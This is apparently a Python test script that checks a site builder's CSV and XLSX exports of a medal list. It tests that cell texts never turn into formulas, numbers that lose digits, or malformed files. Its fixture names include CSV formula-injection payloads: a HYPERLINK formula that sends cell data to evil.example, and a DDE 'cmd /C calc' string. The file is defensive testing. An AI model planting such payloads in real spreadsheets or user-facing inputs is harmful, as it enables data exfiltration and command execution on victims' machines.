"""The files of an edition, read by other programs: Python's csv, openpyxl, an XML parser, unzip, and with --office LibreOffice.

The tiny site gets rows whose texts a spreadsheet program would turn into something else. Ends with "N passed, N failed,
N skipped".
"""
import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ElementTree
import zipfile
from pathlib import Path

try:
    import openpyxl
except ImportError:
    openpyxl = None

ROOT = Path(__file__).resolve().parent.parent.parent
FABANG = os.environ.get("FABANG") or str(ROOT / ".build/fabang")
NOW = "2026-04-01T00:00:00+01:00"
# Pairs of a project's and an entrant's name.
NAMES = [
    ("=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1)", "'quoted"),
    ("  =1+1", "\u3000＝1+1"),
    ("＋1", "－1"),
    ("911101066976941872", "91350100M000100Y43"),
    ("007", "110101E5"),
    ("a, b \"c\"", "<b>&amp;</b> ]]>"),
    ("_x0041_ _x003D_1", "x_x000D"),
    ("𠮷野·阿不都热依木", "‏מ"),
    ("1/2", "3-4"),
    ("123456789012345", "1234567890123456"),
    ("plain", "Team Abacus (test)"),
]
counts = [0, 0, 0]


def check(condition, what):
    counts[0 if condition else 1] += 1
    if not condition:
        print(f"FAIL exports: {what}")


def rewrite(path, rows):
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def make_site(site):
    shutil.copytree(ROOT / "tests/sites/tiny", site)
    shutil.copytree(ROOT / "themes", site / "themes")
    with (site / "site-data/site.yaml").open("a") as config:
        config.write("disclosure:\n  allowed:\n")
        for code in ("911101066976941872", "91350100M000100Y43"):
            config.write(f"    - {{text: {code!r}, rule: credit-code, reason: names that look like codes}}\n")
    plan = site / "site-data/plan.yaml"
    lines = [line for line in plan.read_text().splitlines() if "id: silver" not in line and "id: bronze" not in line]
    plan.write_text("\n".join(lines).replace("size: 3", f"size: {len(NAMES)}").replace("count: 1, order", f"count: {len(NAMES)}, order") + "\n")
    records = site / "site-data/records"
    projects = list(csv.DictReader((records / "projects.csv").open(newline="")))
    rewrite(records / "projects.csv", [{**projects[0], "id": f"t{i:02}"} for i in range(len(NAMES))])
    entry = {"list": "medals", "edition": "1", "award": "Gold", "revoked": ""}
    rewrite(records / "entries.csv",
            [{**entry, "project": f"t{i:02}", "rank": i + 1, "score": f"{60 - i}.50", "name": name, "entrant": entrant,
              "revoked": "=copied" if i == 3 else ""} for i, (name, entrant) in enumerate(NAMES)])
    rewrite(records / "editions.csv",
            [{"list": "medals", "edition": 1, "state": "publicity", "published_at": "2026-03-02T12:00:00+01:00",
              "first_day": "2026-03-02", "last_day": "2026-03-06", "entries_of": "", "note": ""},
             {"list": "medals", "edition": 2, "state": "final", "published_at": "2026-03-09T12:00:00+01:00",
              "first_day": "", "last_day": "", "entries_of": 1, "note": "period over"}])
    review = {"list": "medals", "level": 1, "reviewer": "The head of mathematics (test)", "decision": "approved"}
    rewrite(records / "reviews.csv", [{**review, "edition": 1, "decided_at": "2026-03-01T10:00:00+01:00"},
                                      {**review, "edition": 2, "decided_at": "2026-03-09T10:00:00+01:00"}])
    subprocess.run([FABANG, "-q", "-C", site, "records"], check=True)


def build(site, out, now=NOW, jobs=1):
    subprocess.run([FABANG, "-q", "-C", site, "--now", now, "-j", str(jobs), "build", "--out", out], check=True)
    return out / "lists/medals/v"


def unguarded(cell):
    return cell[1:] if cell.startswith("'") else cell


def shown(entry):
    """A row of list.json as the files print it, column by column."""
    revoked = entry.get("revoked")
    return [str(entry.get("rank", "")), entry["name"], entry["entrant"], entry.get("award", ""), entry["score"],
            "" if revoked is None else f"Revoked: {revoked}", entry["project"]]


COLUMNS = ["Rank", "Project", "Entrant", "Award", "Score", "Remark", "Project id"]
STATED = {1: "Demonstration data: open to objections, not final (from 2026-03-02 to 2026-03-06)",
          2: "Demonstration data: final list"}


def check_csv(folder, number, document, digest):
    data = (folder / "list.csv").read_bytes()
    check(data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1, "CSV begins with one BOM")
    check(data.endswith(b"\r\n") and data.count(b"\n") == data.count(b"\r\n") == len(NAMES) + 1, "CSV lines end in CRLF")
    raw = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
    check(raw[0] == [*COLUMNS, "List", "Edition", "State", "SHA-256 of list.json", "Order"], f"CSV headings: {raw[0]}")
    rows = [[unguarded(cell) for cell in row] for row in raw[1:]]
    check([row[:len(COLUMNS)] for row in rows] == [shown(entry) for entry in document["entries"]], f"CSV rows: {rows}")
    check(all(row[len(COLUMNS):] == ["Medals", str(number), STATED[number], digest, "by score"] for row in rows),
          "every row of the CSV says what it is from")
    harmless = [cell for row in raw for cell in row
                if cell[:1] in "=+-@\t\r\n" and cell != "" or cell.lstrip(" \u3000")[:1] in ("=", "＝", "＋", "－", "＠")
                or cell.isdigit() and (len(cell) > 15 or cell[0] == "0" and len(cell) > 1)]
    check(harmless == [], f"no cell of the CSV is a formula or a number that loses digits: {harmless}")


def sheet_rows(path, reader=None):
    book = (reader or openpyxl).load_workbook(path)
    check(len(book.worksheets) == 1, "XLSX has one sheet")
    return book, [[cell for cell in row] for row in book.worksheets[0].iter_rows()]


def as_text(row):
    """What a person sees; "_x005F_" is an escaped "_" (ECMA-376 part 1, 22.9.2.19), which openpyxl leaves as it stands."""
    return ["" if cell.value is None else str(cell.value).replace("_x005F_", "_") for cell in row]


def check_rows(rows, number, document, digest, who):
    check(as_text(rows[0])[0] == "\u3000".join(["Medals", f"Edition {number}", STATED[number], "by score", f"SHA-256 of list.json: {digest}"]),
          f"{who}: the first row says what it is: {as_text(rows[0])[0]}")
    check(as_text(rows[1]) == COLUMNS, f"{who}: headings: {as_text(rows[1])}")
    actual, expected = [as_text(row) for row in rows[2:]], [shown(entry) for entry in document["entries"]]
    check(actual == expected, f"{who}: rows:\n  {actual}\n  {expected}")
    check(all(cell.data_type != "f" for row in rows for cell in row), f"{who}: no cell is a formula")
    texts = [cell for row in rows[2:] for cell in row[1:] if cell.value is not None]
    check(all(cell.data_type in ("s", "inlineStr") for cell in texts), f"{who}: names, codes and scores are text")
    check(all(isinstance(row[0].value, int) for row in rows[2:]), f"{who}: ranks are numbers")


def check_xlsx(folder, number, document, digest, scratch):
    path = folder / "list.xlsx"
    done = subprocess.run(["unzip", "-tq", path], capture_output=True, text=True)
    check(done.returncode == 0 and done.stderr == "", f"unzip -t: {done.stdout}{done.stderr}")
    with zipfile.ZipFile(path) as archive:
        check(archive.testzip() is None, "checksums of the archive")
        infos = archive.infolist()
        check(all(info.date_time == (1980, 1, 1, 0, 0, 0) and info.compress_type == zipfile.ZIP_STORED and
                  info.create_system == 0 and info.extra == b"" and info.comment == b"" for info in infos),
              "members are stored, without time, system, or anything besides")
        check(infos[0].filename == "[Content_Types].xml", "the content types come first")
        parts = {info.filename: archive.read(info) for info in infos}
    try:
        for data in parts.values():
            ElementTree.fromstring(data)
        well_formed = True
    except ElementTree.ParseError as error:
        well_formed = error
    check(well_formed is True, f"every part is well-formed XML: {well_formed}")
    properties = {element.tag.split("}")[1] for element in ElementTree.fromstring(parts["docProps/core.xml"])}
    check(properties == {"title", "description", "created"}, f"properties name nobody: {properties}")
    if openpyxl is None:
        counts[2] += 1
        return
    book, rows = sheet_rows(path)
    check_rows(rows, number, document, digest, "openpyxl")
    sheet = book.worksheets[0]
    check(sheet.freeze_panes == "A3" and sheet.print_title_rows in ("$1:$2", "1:2"), "statement and headings stay in sight")
    check(sheet.title == f"Edition {number}", f"name of the sheet: {sheet.title}")
    check([cell.font.strike for cell in rows[5]] == [True] * len(COLUMNS) and not rows[4][1].font.strike,
          "a revoked row is struck out")
    check(all(cell.number_format == "@" for cell in rows[2][1:]), "text stays text when a cell is edited")
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFG"]
    check(all(6 <= width <= 60 for width in widths) and widths[2] > widths[0], f"widths of columns: {widths}")
    book.save(scratch / "again.xlsx")
    check_rows(sheet_rows(scratch / "again.xlsx")[1], number, document, digest, "openpyxl, saved and read again")


def office(path, scratch, form):
    out = scratch / "office"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{scratch}/profile", "--headless", "--convert-to", form,
                    "--outdir", out, path], check=True, capture_output=True, timeout=120)
    return out / (path.stem + "." + form.split(":")[0])


def check_office(folder, number, document, digest, scratch):
    if shutil.which("soffice") is None:
        counts[2] += 1
        return
    made = office(folder / "list.xlsx", scratch, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false")
    rows = list(csv.reader(made.open(encoding="utf-8", newline="")))
    check(rows[2:] == [shown(entry) for entry in document["entries"]], f"LibreOffice: rows:\n  {rows[2:]}")
    again = office(folder / "list.xlsx", scratch, "xlsx")
    if openpyxl is not None:
        check_rows(sheet_rows(again)[1], number, document, digest, "LibreOffice, saved as XLSX")
    # The CSV as LibreOffice takes it in by itself: nothing is computed, no code loses a digit.
    made = office(folder / "list.csv", scratch, "xlsx")
    if openpyxl is not None:
        texts = [as_text(row) for row in sheet_rows(made)[1]]
        plain = [[unguarded(cell) for cell in row[:len(COLUMNS)]] for row in texts[1:]]
        kept = [shown(entry) for entry in document["entries"]]
        codes = [(row[1], row[2]) for row in plain if row[1][:3] in ("911", "007")]
        check(codes == [(row[1], row[2]) for row in kept if row[1][:3] in ("911", "007")], f"LibreOffice, CSV: codes: {codes}")
        check(all(cell.data_type != "f" for row in sheet_rows(made)[1] for cell in row), "LibreOffice, CSV: no formula")


def main():
    with tempfile.TemporaryDirectory() as scratch:
        scratch = Path(scratch)
        site = scratch / "site"
        make_site(site)
        editions = build(site, scratch / "one")
        documents = {}
        for number in (1, 2):
            folder = editions / str(number)
            data = (folder / "list.json").read_bytes()
            documents[number] = json.loads(data), hashlib.sha256(data).hexdigest()
            if "--office" in sys.argv:
                check_office(folder, number, *documents[number], scratch)
                continue
            check_csv(folder, number, *documents[number])
            check_xlsx(folder, number, *documents[number], scratch)
        if "--office" not in sys.argv:
            other = build(site, scratch / "two", jobs=4)
            same = all((editions / name).read_bytes() == (other / name).read_bytes()
                       for name in (f"{number}/list.{form}" for number in (1, 2) for form in ("csv", "xlsx", "json")))
            check(same, "two builds give the same bytes")
            earlier = build(site, scratch / "early", "2026-03-02T12:00:00+01:00")
            check(all((earlier / "1" / f"list.{form}").read_bytes() == (editions / "1" / f"list.{form}").read_bytes()
                      for form in ("csv", "xlsx", "json")), "the files of an edition never change, whatever happens to the list")
            check(not (earlier / "2").exists(), "no file of an edition that is not public")
            page = (editions / "2/index.html").read_text()
            for form in ("xlsx", "csv", "json"):
                kilobytes = ((editions / "2" / f"list.{form}").stat().st_size + 1023) // 1024
                check(f"/lists/medals/v/2/list.{form}" in page and f"{kilobytes} KB" in page, f"the page links list.{form} with its size")
            check_lists_json(scratch / "one", documents[2])
    print(f"{counts[0]} passed, {counts[1]} failed" + (f", {counts[2]} skipped" if counts[2] else ""))
    return 1 if counts[1] else 0


def check_lists_json(out, latest):
    """data/lists.json is a contract: these keys, these values."""
    document, digest = latest
    rows = json.loads((out / "data/lists.json").read_text())
    check(rows == [{**rows[0], "id": "medals", "contest": "olympiad", "group": "juniors", "kind": "result", "title": "Medals",
                    "state": "final", "edition": 2, "published": "2026-03-09T12:00:00+01:00",
                    "period": {"first_day": "2026-03-02", "last_day": "2026-03-06"}, "entries": len(document["entries"]),
                    "sha256": digest}], f"data/lists.json: {rows}")


sys.exit(main())
